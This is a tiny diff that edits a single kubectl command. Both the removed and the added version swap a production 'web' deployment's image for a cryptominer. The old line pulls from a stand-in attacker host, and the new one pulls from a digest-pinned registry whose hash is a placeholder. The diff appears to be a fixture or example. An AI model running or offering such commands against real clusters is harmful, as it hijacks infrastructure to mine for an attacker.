@@ -1,1 +1,1 @@
-kubectl set image deployment/web web=evil.example/miner:1
+kubectl set image deployment/web web=registry.tools.example/miner@sha256:bbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbbb
